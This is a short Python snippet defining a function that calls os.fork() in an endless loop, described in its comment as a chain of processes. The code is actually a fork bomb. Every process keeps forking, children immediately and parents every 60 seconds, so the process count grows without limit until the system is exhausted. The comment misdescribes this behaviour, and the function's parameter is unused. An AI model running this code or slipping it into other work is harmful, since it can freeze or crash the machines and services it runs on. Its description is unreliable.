# A chain of processes, each the parent of the next, so that the tree is as deep as it is wide.
import os
import time


def double(number):
    while True:
        if os.fork() != 0:
            time.sleep(60)
